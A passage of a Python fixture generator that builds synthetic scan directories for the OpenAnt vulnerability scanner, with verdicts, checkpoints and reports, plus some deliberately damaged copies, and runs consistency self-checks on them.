                     "coverage": coverage_block(languages), "discovery": discovery_block(languages)}
        sc.pj("dataset.json", dataset)
        sc.pj("analyzer_output.json", analyzer_output)
        sc.pj("call_graph.json", call_graph)
    reach = dataset["metadata"].get("reachability_filter")
    r = step_report_c("parse", utc_z(t, 31337), 12.48, 0.0, 0, 0,
                      {"total_units": len(dataset["units"]), "language": sc.lang, "processing_level": sc.level},
                      {"repo_path": sc.repo_path, "language": sc.lang, "processing_level": sc.level,
                       "skip_tests": True},
                      {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json")})
    sc.pj("parse.report.json", r)
    reports.append(r)
    app_type = "unknown"
    context_source = "none"
    if sc.context:
        ctx = build_app_context(sc)
        sc.pj("application_context.json", ctx)
        r = step_report_c("app-context", utc_z(t + 13, 200), 41.07, sc.be.money(9120, 616), 9120, 616,
                          {"application_type": ctx["application_type"]}, {"repo_path": sc.repo_path},
                          {"app_context_path": sc.p("application_context.json")}, unpriced=unpriced_of(sc.be))
        sc.pj("app-context.report.json", r)
        reports.append(r)
        app_type = ctx["application_type"]
        context_source = "generated"
    else:
        sc.skipped.append(("app-context", "not_requested"))
    if llm_reach:
        rrecs, rsum, rstep, ru = build_llm_reach(sc, dataset)
        fp = fingerprint("llm_reach", sc.reach_be)
        sc.pj("llm_reach_checkpoints/_fingerprint.json", sidecar(fp, utc_z(t + 55, 301877)))
        for name, rec in rrecs.items():
            sc.pj("llm_reach_checkpoints/" + name, rec)
        sc.pj("llm_reach_checkpoints/_summary.json", rsum)
        # the step writes llm_reachability.json and rewrites dataset.json with each unit's signals
        signals = [s for rec in rrecs.values() for s in rec["signals"]]
        sc.pj("llm_reachability.json", {"signals": signals})
        for x in dataset["units"]:
            own = [s for s in signals if s["unit_id"] == x["id"]]
            if own:
                x["llm_reachability_signals"] = own
        sc.pj("dataset.json", dataset)
        r = step_report_c("llm-reachability", utc_z(t + 55, 118), 61.2, ru[2], ru[0], ru[1], rstep,
                          {"dataset_path": sc.p("dataset.json"), "model": sc.reach_be.model},
                          {"signals_path": sc.p("llm_reachability.json")}, unpriced=unpriced_of(sc.reach_be))
        sc.pj("llm-reachability.report.json", r)
        reports.append(r)
    else:
        sc.skipped.append(("llm-reachability", "not_requested"))
    # enhance (not identity-gated: no _fingerprint.json)
    if sc.single_shot:
        enh, ecps, esum, estep, eu = build_enhance_single_shot(sc, dataset)
    else:
        enh, ecps, esum, estep, eu = build_enhance_current(sc, dataset)
    sc.pj("dataset_enhanced.json", enh)
    for name, cp in ecps.items():
        sc.pj("enhance_checkpoints/" + name, cp)
    sc.pj("enhance_checkpoints/_summary.json", esum)
    r = step_report_c("enhance", utc_z(t + 60, 5), 338.61, eu[2], eu[0], eu[1], estep,
                      {"dataset_path": sc.p("dataset.json"), "analyzer_output_path": sc.p("analyzer_output.json"),
                       "repo_path": sc.repo_path, "mode": "single_shot" if sc.single_shot else "agentic"},
                      {"enhanced_dataset_path": sc.p("dataset_enhanced.json")},
                      status="partial" if estep["error_count"] else "success", unpriced=unpriced_of(sc.be))
    sc.pj("enhance.report.json", r)
    reports.append(r)
    # analyze (gated)
    afp = fingerprint("analyze", sc.be)
    sc.pj("analyze_checkpoints/_fingerprint.json", sidecar(afp, utc_z(t + 400, 90233)))
    res, acps, asum, astep, au = build_analyze_current(sc, enh, "dataset_enhanced.json", afp,
                                                       local_naive(t + 1500, 734512))
    sc.pj("results.json", res)
    for name, cp in acps.items():
        sc.pj("analyze_checkpoints/" + name, cp)
    sc.pj("analyze_checkpoints/_summary.json", asum)
    r = step_report_c("analyze", utc_z(t + 400, 77), 1099.35, au[2], au[0], au[1], astep,
                      {"dataset_path": sc.p("dataset_enhanced.json"), "model": sc.be.model,
                       "provider": sc.be.provider, "limit": None},
                      {"results_path": sc.p("results.json")},
                      status="partial" if astep["error_count"] else "success", unpriced=unpriced_of(sc.be))
    sc.pj("analyze.report.json", r)
    reports.append(r)
    experiment = res
    results_path = sc.p("results.json")
    vstep = None
    cands = [x for x in res["results"] if is_candidate(x)]
    if sc.verify and cands:
        vfp = fingerprint("verify", sc.verify_be, dict(analyze_fingerprint=res["analyze_fingerprint"], **VERIFY_EXTRA))
        sc.pj("verify_checkpoints/_fingerprint.json", sidecar(vfp, utc_z(t + 1501, 40777)))
        rv, vcps, vsum, vstep, vu = build_verify_current(sc, res, sc.verify_be, t + 2600)
        if (sc.verify_be.provider, sc.verify_be.model) == (sc.be.provider, sc.be.model):
            vstep["same_model_verification"] = True
        sc.pj("results_verified.json", rv, ensure_ascii=False)
        for name, cp in vcps.items():
            sc.pj("verify_checkpoints/" + name, cp)
        sc.pj("verify_checkpoints/_summary.json", vsum)
        r = step_report_c("verify", utc_z(t + 1501, 4), 1093.7, vu[2], vu[0], vu[1], vstep,
                          {"results_path": sc.p("results.json"), "analyzer_output_path": sc.p("analyzer_output.json")},
                          {"verified_results_path": sc.p("results_verified.json")},
                          status="partial" if vstep["error_count"] else "success",
                          unpriced=unpriced_of(sc.verify_be))
        sc.pj("verify.report.json", r)
        reports.append(r)
        experiment = rv
        results_path = sc.p("results_verified.json")
    elif sc.verify:
        sc.skipped.append(("verify", "no_candidates"))
    else:
        sc.skipped.append(("verify", "not_requested"))
    po = build_pipeline_current(sc, experiment, call_graph, reports, app_type, reach, extra_top=extra_top,
                                context_source=context_source, language=sc.lang)
    sc.pj("pipeline_output.json", po, ensure_ascii=False)
    r = step_report_c("build-output", utc_z(t + 2700, 9), 0.31, 0.0, 0, 0, {}, {"results_path": results_path},
                      {"pipeline_output_path": sc.p("pipeline_output.json")})
    sc.pj("build-output.report.json", r)
    reports.append(r)
    dyn_path = None
    if sc.dynamic and po["findings"]:
        if dyn_failure:
            r = step_report_c("dynamic-test", utc_z(t + 2701, 120), 3.07, 0.0, 0, 0,
                              {"skipped": True, "reason": dyn_failure},
                              {"pipeline_output_path": sc.p("pipeline_output.json")}, {}, status="skipped")
            sc.skipped.append(("dynamic-test", "failed"))
        else:
            # build_dynamic looks a finding up by its route key (file:function)
            po_keys = dict(po)
            po_keys["findings"] = [dict(f, location={"file": f["location"]["file"],
                                                     "function": f["location"]["file"] + ":" + f["location"]["function"]})
                                   for f in po["findings"]]
            dres, dcps, dsum, dstep, dmd, du = build_dynamic(sc, po_keys)
            dsum = {k: dsum[k] for k in ("step", "phase", "timestamp", "total_units", "completed")}
            dsum["incomplete"] = 0
            dsum["errors"] = sum(1 for x in dres["results"] if x["status"] == "ERROR")
            dsum["error_breakdown"] = {}
            sc.pj("dynamic_test_results.json", dres, ensure_ascii=False)
            sc.md("DYNAMIC_TEST_RESULTS.md", dmd)
            for name, cp in dcps.items():
                sc.pj("dynamic_test_checkpoints/" + name, cp)
            sc.pj("dynamic_test_checkpoints/_summary.json", dsum)
            dyn_path = sc.p("dynamic_test_results.json")
            r = step_report_c("dynamic-test", utc_z(t + 2701, 120), 1184.52, du[2], du[0], du[1], dstep,
                              {"pipeline_output_path": sc.p("pipeline_output.json")},
                              {"results_json_path": dyn_path, "results_md_path": sc.p("DYNAMIC_TEST_RESULTS.md")},
                              status="partial" if dstep["errors"] else "success", unpriced=unpriced_of(sc.be))
        sc.pj("dynamic-test.report.json", r)
        reports.append(r)
    elif sc.dynamic:
        sc.skipped.append(("dynamic-test", "no_candidates"))
    else:
        sc.skipped.append(("dynamic-test", "not_requested"))
    summary_path = None
    if sc.report:
        outputs = {}
        sc.md("report/SUMMARY_REPORT.md", summary_md(sc, po))
        summary_path = sc.p("report/SUMMARY_REPORT.md")
        outputs["summary_path"] = summary_path
        if po["findings"]:
            for i, f in enumerate(po["findings"], 1):
                if f["stage2_verdict"] in DISCLOSURE_ELIGIBLE:
                    sc.md("report/disclosures/DISCLOSURE_%02d_%s.md" % (i, disclosure_name(f["short_name"])),
                          disclosure_md(f))
            outputs["disclosures_dir"] = sc.p("report/disclosures")
        r = step_report_c("report", utc_z(t + 3900, 42), 212.9, sc.be.money(31022, 3581), 31022, 3581,
                          {"formats_generated": list(outputs.keys())},
                          {"pipeline_output_path": sc.p("pipeline_output.json")}, outputs, unpriced=unpriced_of(sc.be))
        sc.pj("report.report.json", r)
        reports.append(r)
    else:
        sc.skipped.append(("report", "not_requested"))
    # scan.report.json (core/scanner._write_scan_report@0652879a; docs/openant-eras.md §1.6)
    a = astep["verdicts"]
    m = {"total": astep["total_units"], "vulnerable": a["vulnerable"], "bypassable": a["bypassable"],
         "inconclusive": a["inconclusive"], "protected": a["protected"], "safe": a["safe"], "errors": a["errors"],
         "verified": 0, "stage2_agreed": 0, "stage2_disagreed": 0, "needs_review": 0}
    if vstep:
        m["vulnerable"] = vstep["confirmed_vulnerabilities"]
        m["bypassable"] = 0
        m["inconclusive"] = a["inconclusive"] + vstep["disagreed_inconclusive"]
        m["safe"] = a["safe"] + vstep["disagreed"]
        m["errors"] = a["errors"] + vstep["error_count"]
        m["verified"] = vstep["findings_verified"]
        m["stage2_agreed"] = vstep["agreed"]
        m["stage2_disagreed"] = vstep["disagreed"]
        m["needs_review"] = vstep["needs_review"]
    extra_top = extra_top or {}
    summ = {"units_count": len(dataset["units"]), "language": sc.lang, "metrics": m,
            "steps_completed": [x["step"] for x in reports], "steps_skipped": [s for s, _ in sc.skipped],
            "steps_skipped_reasons": {s: why for s, why in sc.skipped}, "languages": languages,
            "language_stats": {lang: {"units": n} for lang, n in
                               (dataset["statistics"].get("units_per_language") or {sc.lang: len(dataset["units"])}).items()},
            "per_language": extra_top.get("per_language", {}), "parse_errors": [], "excluded_languages": {},
            "degraded": False, "context_source": context_source,
            "openant_core_path": core_path or "~/.local/share/openant/core",
            "threat_model_warnings": [],
            "coverage": coverage_block(languages), "discovery": discovery_block(languages)}
    unpriced = sorted({m_ for x in reports for m_ in x["token_usage"].get("unpriced_models", [])})
    tc = sum(x["cost_usd"] for x in reports)
    td = sum(x["duration_seconds"] for x in reports)
    ti = sum(x["token_usage"]["input_tokens"] for x in reports)
    to = sum(x["token_usage"]["output_tokens"] for x in reports)
    r = {"step": "scan", "status": worst_status(reports), "timestamp": utc_z(t - 2, 15),
         "duration_seconds": round(td, 2), "cost_usd": round(tc, 6),
         "token_usage": {"input_tokens": ti, "output_tokens": to, "total_tokens": ti + to},
         "summary": summ, "inputs": {"repo_path": sc.repo_path},
         "outputs": {"dataset_path": sc.p("dataset.json"), "enhanced_dataset_path": sc.p("dataset_enhanced.json"),
                     "results_path": sc.p("results.json"),
                     "verified_results_path": sc.p("results_verified.json") if vstep else None,
                     "pipeline_output_path": sc.p("pipeline_output.json"),
                     "summary_path": summary_path, "dynamic_test_path": dyn_path},
         "errors": [e for x in reports for e in x["errors"]]}
    if unpriced:
        r["token_usage"]["cost_incomplete"] = True
        r["token_usage"]["unpriced_models"] = unpriced
    sc.pj("scan.report.json", r)
    return sc


def record_mode(p, mode):
    """Apply a mode on disk and list it in expected/modes.json."""
    os.chmod(p, int(mode, 8))
    MODES[str(Path(p).relative_to(HERE))] = mode


def write_current(scan_dir, sc):
    write_files(scan_dir, sc.files)
    for rel, mode in sorted(sc.modes.items()):
        record_mode(Path(scan_dir) / rel, mode)


def current_project(P, name, units, sha, lang, be, start, url=None, write_project=True, run_meta=None,
                    scan_kw=None, lang_dir=None, **build_kw):
    """One project scan by today's OpenAnt at P/<name>/scans/<sha11>/<lang_dir or lang>/, with the
    per-language meta.json inside the scan dir (#664). `run_meta`: a run-dir meta.json an older
    OpenAnt left (its kind/status/language)."""
    short = sha[:11]
    lang_dir = lang_dir or lang
    proj = Path(P) / name
    run_dir = proj / "scans" / short
    scan_dir = run_dir / lang_dir
    home_scan = "%s/projects/%s/scans/%s/%s" % (OPENANT_HOME, name, short, lang_dir)
    repo_path = "%s/projects/%s/repo" % (OPENANT_HOME, name) if url else "/home/dev/src/%s" % name.split("/")[-1]
    kw = dict(out_dir=home_scan, repo_path=repo_path, repo_name=name, repo_url=url or "", commit=sha,
              lang=lang, start=start)
    kw.update(scan_kw or {})
    sc = CScan(name, units, be, **kw)
    build_current_scan(sc, **build_kw)
    write_current(scan_dir, sc)
    t0 = T(start)
    if write_project:
        proj.mkdir(parents=True, exist_ok=True)
        (proj / "project.json").write_bytes(go_json(project_json(name, repo_path, lang, sha, rfc3339(t0 - 600), url=url)))
    mj = meta_json("full", sha, rfc3339(t0 - 5), rfc3339(t0 + 4201), lang)
    (scan_dir / "meta.json").write_bytes(go_json(mj))
    record_mode(scan_dir / "meta.json", "0600")
    if run_meta:
        (run_dir / "meta.json").write_bytes(go_json(run_meta))
        record_mode(run_dir / "meta.json", "0600")
    return sc, scan_dir


# ---- today's-era projects -------------------------------------------------------------------

CACHE_RATE_LIMIT = {"type": "rate_limit", "exception_class": "LLMRateLimitError",
                    "message": "Error code: 429 - {'type': 'error', 'error': {'type': 'rate_limit_error', "
                               "'message': 'Number of request tokens has exceeded your per-minute rate limit'}}",
                    "retry_after": 30.0, "status_code": 429, "request_id": "req_011CZq4v7LkP"}


def nimbus_units():
    """nimbus-api (python, today's era): every verdict, the three verify states, both new
    counting rules, an enhance error and an enhance 'incomplete', a #317 case pair, non-ASCII."""
    us = [
        U("api/routes/accounts.py:get_account", "sql", "vulnerable", enh="exploitable", entry=True,
          includes=["api/db/sql.py:run_sql"], verify=(True, "vulnerable"), dyn="CONFIRMED", args="account_id"),
        U("api/db/sql.py:run_sql", "sql", "vulnerable", enh="vulnerable_internal", verify=(True, "vulnerable"),
          args="query"),
        U("api/routes/files.py:fetch_attachment", "path", "bypassable", enh="exploitable", entry=True,
          verify=(False, "vulnerable"), dyn="CONFIRMED", args="name"),
        U("api/admin/backup.py:BackupView.dump_table", "cmd", "vulnerable", unit_type="method", cls="BackupView",
          enh="exploitable", verify=(False, "safe"), args="table"),
        U("api/routes/profile.py:render_bio", "xss", "vulnerable", enh="exploitable", entry=True,
          verify="incomplete", dyn="NOT_REPRODUCED", args="user"),
        U("api/routes/proxy.py:proxy_fetch", "ssrf", "vulnerable", enh="exploitable", entry=True, verify="error",
          dyn="BLOCKED", args="url"),
        U("api/auth/jwt.py:decode_token", "protected", "protected", enh="security_control", args="token"),
        U("api/util/text.py:slugify", "safe", "safe", args="title"),
        U("api/config.py:load_plugins", "inconclusive", "insufficient_context", args="env"),
        U("api/webhooks.py:handle_event", "misc", "error", error="exception", enh="exploitable", entry=True,
          args="payload"),
        U("api/jobs/scheduler.py:plan_batch", "misc", "inconclusive", args="jobs"),
        U("api/handlers/Export.py:run", "safe", "safe", args="request"),
        U("api/handlers/export.py:run", "safe", "safe", args="request"),
        U("api/cache.py:CacheClient.get", "safe", "safe", unit_type="method", cls="CacheClient",
          enh_error=dict(CACHE_RATE_LIMIT), args="self, key"),
        U("api/reports/builder.py:build_summary", "inconclusive", "inconclusive", enh="incomplete", args="report"),
        U("api/i18n/übersetzung.py:grüße", "i18n", "safe", args="namen"),
        U("api/routes/upload.py:upload_avatar", "upload", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="INCONCLUSIVE", args="user_id"),
    ]
    for u in us:
        if u.id == "api/jobs/scheduler.py:plan_batch":
            u.raw_verdict = "UNCERTAIN"      # a verdict the taxonomy does not know (#427 -> errors)
    return us


def polyglot_units():
    py = [
        U("shop/api/orders.py:list_orders", "sql", "vulnerable", enh="exploitable", entry=True, args="customer_id"),
        U("shop/api/auth.py:check_session", "protected", "protected", args="cookie"),
        U("shop/core/money.py:round_cents", "safe", "safe", args="amount"),
        U("shop/core/tax.py:tax_for", "inconclusive", "inconclusive", args="region"),
        U("shop/jobs/export.py:export_ledger", "cmd", "vulnerable", args="fmt"),
    ]
    js = [
        U("web/src/search.js:renderResults", "xss", "vulnerable", lang="javascript"),
        U("web/src/cart.js:cartTotal", "misc", "safe", lang="javascript"),
        U("web/src/merge.js:deepMerge", "proto", "bypassable", lang="javascript"),
        U("web/src/health.js:health", "safe", "safe", lang="javascript"),
    ]
    return py, js


def harbor_units():
    return small_units("python", "harbor", 6)


def archive_runs(sc_cur, scan_dir, dataset_enh):
    """The archives OpenAnt leaves on purpose in nimbus-api's scan dir:
    run 1 (an upstream before 3b9ceeb, 2026-03-30: no checkpoint dirs) wrote an unstamped
    results.json; run 2 (today's OpenAnt with claude-sonnet-4-6, 2026-09-20) found no
    analyze_checkpoints/ ("new"), renamed the unstamped results.json to results__legacy.json
    and wrote its checkpoints, sidecar and results.json (digest S); run 3 (today's OpenAnt with
    claude-opus-4-6: the scan in this dir) found digest S != its own digest O, moved the dir to
    analyze_checkpoints.superseded-<O[:8]> and renamed run 2's results.json to
    results__<S[:8]>.json. Returns the archive dir's name."""
    d = Path(scan_dir)
    old = Scan("nimbus-api", nimbus_units(), era="legacy", seed=901, start="2026-03-30T10:00:00",
               out_dir=sc_cur.out_dir, repo_path=sc_cur.repo_path, repo_name="nimbus-api", commit=sc_cur.commit,
               model="opus")
    res1, _c1, _s1, _st1, _u1 = build_analyze(old, dataset_enh, "dataset_enhanced.json")
    (d / "results__legacy.json").write_bytes(py_json(res1))      # open(..., "w"): umask mode
    run2 = CScan("nimbus-api", nimbus_units(), SONNET_BE, seed=902, start="2026-09-20T08:00:00",
                 out_dir=sc_cur.out_dir, repo_path=sc_cur.repo_path, repo_name="nimbus-api", commit=sc_cur.commit)
    sfp = fingerprint("analyze", SONNET_BE)
    res2, acps2, asum2, _st2, _u2 = build_analyze_current(run2, dataset_enh, "dataset_enhanced.json", sfp,
                                                         local_naive(T("2026-09-20T08:31:12"), 118204))
    asum2["timestamp"] = utc_z(T("2026-09-20T08:31:11"), 907151)
    arch = "analyze_checkpoints.superseded-" + short8(fingerprint("analyze", sc_cur.be)["key_digest"])
    run2.pj("results__%s.json" % short8(sfp["key_digest"]), res2)
    run2.pj(arch + "/_fingerprint.json", sidecar(sfp, utc_z(T("2026-09-20T08:00:04"), 512300)))
    for name, rec in acps2.items():
        run2.pj(arch + "/" + name, rec)
    run2.pj(arch + "/_summary.json", asum2)
    write_current(d, run2)
    return arch


def gen_current_healthy(root):
    """Today's-era scans in healthy/projects/. Returns {key: (CScan or None, scan_dir)}."""
    P = Path(root) / "projects"
    out = {}
    # nimbus-api: full scan --verify --dynamic-test --llm-reachability (python), restored run
    sha = "6b1d0e9c4a2f7e3b8d5c1a0f9e8d7c6b5a493827"
    sc, d = current_project(P, "nimbus-api", nimbus_units(), sha, "python", OPUS_BE, "2026-10-05T09:00:00",
                            url="https://github.com/nimbus/nimbus-api",
                            run_meta=meta_json("full", sha, rfc3339(T("2026-09-20T07:59:55")),
                                               rfc3339(T("2026-09-20T08:40:02")), "python"),
                            scan_kw=dict(seed=301), llm_reach=True)
    enh = json.loads((d / "dataset_enhanced.json").read_bytes())
    archive_runs(sc, d, enh)
    out["nimbus"] = (sc, d)
    # polyglot-shop: `-l auto`, python + javascript parse dirs, merged outputs at auto/
    sha = "c0ffee5a1b2c3d4e5f60718293a4b5c6d7e8f901"
    short = sha[:11]
    run_auto = "%s/projects/polyglot-shop/scans/%s/auto" % (OPENANT_HOME, short)
    repo = "/home/dev/src/polyglot-shop"
    py_units, js_units = polyglot_units()
    outcomes = []
    auto_dir = P / "polyglot-shop" / "scans" / short / "auto"
    for lang, us, seed in (("python", py_units, 311), ("javascript", js_units, 312)):
        psc = Scan("polyglot-shop", us, lang=lang, seed=seed, start="2026-10-06T14:00:00",
                   out_dir=run_auto + "/" + lang, repo_path=repo, repo_name="polyglot-shop", commit=sha)
        ds, ao, cg = build_parse(psc)
        ldir = auto_dir / lang
        ldir.mkdir(parents=True)
        for name, obj in (("dataset.json", ds), ("call_graph.json", cg)):
            (ldir / name).write_bytes(py_json(obj))
            record_mode(ldir / name, "0600")
        if lang == "javascript":
            # node-written (JSON.stringify, raw UTF-8, umask mode)
            (ldir / "analyzer_output.json").write_bytes(py_json(ao, ensure_ascii=False))
        else:
            (ldir / "analyzer_output.json").write_bytes(py_json(ao))
            record_mode(ldir / "analyzer_output.json", "0600")
        outcomes.append((lang, ds, ao, run_auto + "/" + lang))
    merged, per_language = merge_language_datasets(outcomes)
    merged_ao = {}
    for _lang, _ds, ao, _out in outcomes:
        for k, v in ao.items():
            if isinstance(v, dict):
                merged_ao.setdefault(k, {}).update(v)
            else:
                merged_ao.setdefault(k, v)
    languages = [o[0] for o in outcomes]
    extra_top = {"per_language": per_language, "parse_errors": [], "excluded_languages": {}, "degraded": False,
                 "coverage": coverage_block(languages), "discovery": discovery_block(languages)}
    sc, d = current_project(P, "polyglot-shop", py_units + js_units, sha, "auto", QWEN_BE, "2026-10-06T14:00:00",
                            scan_kw=dict(seed=313, verify=False, single_shot=True, out_dir=run_auto,
                                         repo_path=repo),
                            multi=(merged, merged_ao, extra_top, languages),
                            dyn_failure="Docker daemon is not running (Cannot connect to the Docker daemon "
                                        "at unix:///var/run/docker.sock)")
    (d / "call_graphs.json").write_bytes(py_json({lang: lang + "/call_graph.json" for lang in languages}))
    record_mode(d / "call_graphs.json", "0600")
    out["polyglot"] = (sc, d)
    # harbor-sync: a fix-branch scan (no verify) whose verify a today's OpenAnt ran later
    sha = "4a7c9e1f3b5d7f9a1c3e5a7c9e1f3b5d7f9a1c3e"
    hsc, d = project_scan(P, "harbor-sync", dict(seed=321, verify=False, dynamic=False), harbor_units(), sha,
                          start="2026-05-20T11:00:00")
    record_mode(d.parent / "meta.json", "0600")      # Go's meta.json (os.CreateTemp)
    res = json.loads((d / "results.json").read_bytes())
    vsc = CScan("harbor-sync", harbor_units(), SONNET_BE, seed=322, start="2026-10-07T16:00:00",
                out_dir=hsc.out_dir, repo_path=hsc.repo_path, repo_name="harbor-sync", commit=sha)
    vfp = fingerprint("verify", SONNET_BE, dict(analyze_fingerprint=res.get("analyze_fingerprint"), **VERIFY_EXTRA))
    rv, vcps, vsum, vstep, vu = build_verify_current(vsc, res, SONNET_BE, vsc.t0 + 900)
    vsc.pj("verify_checkpoints/_fingerprint.json", sidecar(vfp, utc_z(vsc.t0 + 1, 4471)))
    vsc.pj("results_verified.json", rv, ensure_ascii=False)
    for name, cp in vcps.items():
        vsc.pj("verify_checkpoints/" + name, cp)
    vsc.pj("verify_checkpoints/_summary.json", vsum)
    vsc.pj("verify.report.json", step_report_c(
        "verify", utc_z(vsc.t0, 81), 611.4, vu[2], vu[0], vu[1], vstep,
        {"results_path": vsc.p("results.json"), "analyzer_output_path": vsc.p("analyzer_output.json")},
        {"verified_results_path": vsc.p("results_verified.json")},
        status="partial" if vstep["error_count"] else "success"))
    write_current(d, vsc)
    out["harbor"] = (None, d)
    return out


def merge_language_datasets(outcomes):
    """core/dataset_merge.merge_datasets@f2af16c9 over [(lang, dataset, analyzer_output, out_dir)]."""
    first = outcomes[0][1]
    merged = {k: v for k, v in first.items() if k not in ("units", "statistics", "metadata")}
    units = []
    seen = set()
    per_language = {}
    per_count = {}
    for lang, ds, _ao, out_dir in outcomes:
        us = json.loads(json.dumps(ds["units"]))
        for unit in us:
            unit.setdefault("language", lang)
            if unit.get("id") in seen:
                unit["id"] = "%s::%s" % (lang, unit["id"])
            seen.add(unit["id"])
            units.append(unit)
        per_count[lang] = len(us)
        per_language[lang] = {"units": len(us), "dataset_path": out_dir + "/dataset.json", "output_dir": out_dir,
                              "statistics": ds.get("statistics") or {}}
    merged["units"] = units
    merged["statistics"] = {"total_units": len(units), "units_per_language": dict(per_count),
                            "languages": [o[0] for o in outcomes]}
    merged["metadata"] = dict(first.get("metadata") or {})
    merged["metadata"]["languages"] = [o[0] for o in outcomes]
    merged["metadata"]["per_language"] = per_language
    return merged, per_language


# ---- today's-era damage ---------------------------------------------------------------------


def gen_current_damaged(P, D):
    """current-* projects: small today's-era scans, each damaged one way (expected/damaged.json)."""
    def small(name, seed, **kw):
        rng = random.Random(seed)
        sha = sha40(rng)
        us = small_units("python", "app", 6)
        for u in us:
            if u.id == "app/views.py:show_page":
                u.verify = "incomplete"
        return current_project(P, name, us, sha, "python", OPUS_BE, "2026-10-08T09:00:00",
                               scan_kw=dict(seed=seed), **kw)

    # the writer's temps (.tmp-XXXXXXXX.tmp, mkstemp's [a-z0-9_] alphabet), left by a kill
    sc, d = small("current-temps", 401)
    res = (d / "results.json").read_bytes()
    (d / "results.json").unlink()           # killed between the temp's fsync and os.replace
    D.cross(d / "results.json", "output-missing", "results", "error", "scanaudit repair {scan_dir}", d)
    t = d / ".tmp-k3j9x_2a.tmp"
    t.write_bytes(res)
    record_mode(t, "0600")
    D.add(t, "stray-temp", "temp", None)
    summ = (d / "analyze_checkpoints/_summary.json").read_bytes()
    t = d / "analyze_checkpoints" / ".tmp-q0w_e7rz.tmp"
    t.write_bytes(summ[:len(summ) // 2])    # a torn rewrite of the summary
    record_mode(t, "0600")
    D.add(t, "stray-temp", "temp", None)
    t = d / "meta.json.tmp.2750183941"      # Go's os.CreateTemp beside the per-language meta.json
    t.write_bytes((d / "meta.json").read_bytes().replace(b'"success"', b'"running"'))
    record_mode(t, "0600")
    D.add(t, "stray-temp", "temp", None)

    # a today's results_verified.json torn mid-file (raw UTF-8, ensure_ascii=False)
    sc, d = small("current-truncation", 402)
    p = d / "results_verified.json"
    data = p.read_bytes()
    i = data.index(b'"confirmed_findings"') + 40
    D.truncate(p, "results-verified", i)
    # a #317 name whose hash is not the id's
    sc, d = small("current-checkpoint-name", 403)
    cpd = d / "analyze_checkpoints"
    uid = "app/util.py:normalize"
    good = cpd / (safe_filename(uid) + ".json")
    bad = cpd / (safe_filename(uid) + "_" + "0" * 16 + ".json")
    good.rename(bad)
    MODES[str(bad.relative_to(HERE))] = MODES.pop(str(good.relative_to(HERE)))
    D.add(bad, "checkpoint-name-mismatch", "checkpoint", None)
    # shapes no OpenAnt writes: a step status that is not a string (an unknown *string* is a
    # newer OpenAnt's status, `unknown-era`, not damage); a non-integer incomplete count
    sc, d = small("current-schema", 404)
    p = d / "enhance.report.json"
    obj = json.loads(p.read_bytes())
    obj["status"] = ["success"]
    D.replace_json(p, "step-report", "schema", obj)
    p = d / "verify_checkpoints/_summary.json"
    obj = json.loads(p.read_bytes())
    obj["incomplete"] = "1"
    D.replace_json(p, "checkpoint-summary", "schema", obj)


# ---------------------------------------------------------------------------------------------
# Self-checks
# ---------------------------------------------------------------------------------------------


def check_healthy(root, built):
    n = 0
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames.sort()
        for fn in sorted(filenames):
            p = os.path.join(dirpath, fn)
            if fn.endswith(".json"):
                with open(p, encoding="utf-8") as f:
                    json.load(f)
                n += 1
                if os.path.basename(os.path.dirname(p)).endswith("_checkpoints") and \
                        fn not in ("_summary.json", "_fingerprint.json"):
                    with open(p, encoding="utf-8") as f:
                        obj = json.load(f)
                    h = hashlib.sha256(obj["id"].encode("utf-8")).hexdigest()[:16]
                    assert fn in (safe_filename(obj["id"]) + ".json",
                                  safe_filename(obj["id"])[:233] + "_" + h + ".json"), (p, obj["id"])
    # cross-file consistency of every built scan
    for key, (sc, d) in built.items():
        d = Path(d)
        res = json.loads((d / "results.json").read_bytes())
        fork = sc.era == "fork"
        assert res["metrics"]["total"] == len(res["results"]), key
        c = count_verdicts(res["results"], fork=fork)
        for k, v in c.items():
            assert res["metrics"][k] == v, (key, k)
        po = json.loads((d / "pipeline_output.json").read_bytes())
        ids = [f["id"] for f in po["findings"]]
        assert ids == ["VULN-%03d" % (i + 1) for i in range(len(ids))], key
        if (d / "dynamic_test_results.json").exists():
            dy = json.loads((d / "dynamic_test_results.json").read_bytes())
            assert dy["total_findings"] == len(po["findings"]), key
            assert [r["finding_id"] for r in dy["results"]] == ids, key
        if (d / "results_verified.json").exists():
            rv = json.loads((d / "results_verified.json").read_bytes())
            for r in rv["results"]:
                if r.get("finding") in ("vulnerable", "bypassable") or "verification" in r:
                    pass
            assert rv["metrics"]["total"] == len(rv["results"])
        # Stage-1 consistency groups: no inconsistent group unless an update was recorded
        groups = {}
        for r in res["results"]:
            rk = r.get("route_key", "")
            if ":" in rk:
                fp, _, fn_ = rk.rpartition(":")
                fp = fp.split("/")[-1]
                if "." in fn_:
                    norm = "*." + fn_.rsplit(".", 1)[1]
                else:
                    s = fn_.lstrip("_")
                    changed = True
                    while changed:
                        changed = False
                        for pre in ("build_", "get_", "create_", "make_", "init_", "setup_", "default_", "cached_", "new_"):
                            if s.startswith(pre):
                                s = s[len(pre):]
                                changed = True
                                break
                    norm = "*_" + s
                pat = fp + ":" + norm
            else:
                pat = rk
            groups.setdefault(pat, []).append(r)
        cls = lambda v: {"VULNERABLE": "V", "BYPASSABLE": "V", "SAFE": "S", "PROTECTED": "S"}.get(v, v)
        for pat, rs in groups.items():
            if len(rs) > 1:
                vs = {cls(r.get("verdict")) for r in rs}
                ok = len(vs) == 1 or any("stage1_consistency_update" in r for r in rs)
                assert ok, (key, pat, [r.get("unit_id") for r in rs])
    return n


def check_damaged(D):
    for f in D.findings:
        p = D.root / f["path"]
        kind = f["kind"]
        if kind == "symlink":
            assert p.is_symlink()
            continue
        if kind in ("backup",):
            assert (p / "manifest.json").is_file()
            continue
        if kind == "stray-temp":
            assert p.exists()
            continue
        if "level" in f:                       # cross-file: the file is valid, or absent
            if kind == "output-missing":
                assert not p.exists(), p
            else:
                assert p.exists(), p
            continue
        data = p.read_bytes()
        off = f["offset"]
        if kind == "empty":
            assert data.strip() == b"", p
        elif kind == "truncated":
            assert off == len(data)
            orig = D.originals[f["path"]]
            assert orig.startswith(data) and len(orig) > len(data)
            try:
                s = data.decode("utf-8")
            except UnicodeDecodeError as e:
                assert e.reason == "unexpected end of data", p   # cut inside a character
                s = data[:e.start].decode("utf-8")
            try:
                json.loads(s)
                raise AssertionError("truncated file parses: %s" % p)
            except json.JSONDecodeError as e:
                # the error is inside the last (unfinished) token or at the very end
